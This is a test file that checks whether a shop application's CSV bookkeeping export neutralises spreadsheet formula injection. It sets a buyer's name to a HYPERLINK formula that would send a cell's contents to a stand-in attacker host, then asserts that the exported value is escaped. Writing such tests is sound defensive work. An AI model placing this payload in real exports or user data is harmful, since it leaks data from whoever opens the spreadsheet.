import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { testDb } from '../helpers/db';
import { payOnFake, saleRow, setUpCounterShop, waitFor } from './sales-fixtures';

// The Books export through HTTP: a person whose name is a spreadsheet formula appears as text.

const db = testDb();
const t = setUpCounterShop();
const NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Receipt")';

describe('the Books CSV export', () => {
  it('keeps a buyer named like a formula as text', async () => {
    await db.updateTable('users').set({ name: NAME }).where('id', '=', t.shop.people.buyer2.id).execute();
    const res = await t.steward.post('/api/sales', {
      lines: [{ partId: t.shop.parts.shrink.id, qty: 1 }],
      buyerId: t.shop.people.buyer2.id,
    });
    expect(res.status).toBe(201);
    const { sale } = (await res.json()) as { sale: { id: string } };
    expect((await payOnFake(t.fake, (await saleRow(db, sale.id)).checkout_session_id!)).status).toBe(200);
    await waitFor('the sale to be paid', async () => (await saleRow(db, sale.id)).status === 'paid');

    const csv = await t.treasurer.get('/api/books/export');
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
    const rows = Papa.parse<Record<string, string>>((await csv.text()).replace(/^\ufeff/, ''), {
      header: true,
    }).data;
    const row = rows.find((r) => r.sale_id === sale.id);
    expect(row?.buyer).toBe(`'${NAME}`);
    for (const r of rows)
      for (const cell of Object.values(r)) if (cell) expect(cell).not.toMatch(/^[=+@\t\r]/);
  });
});
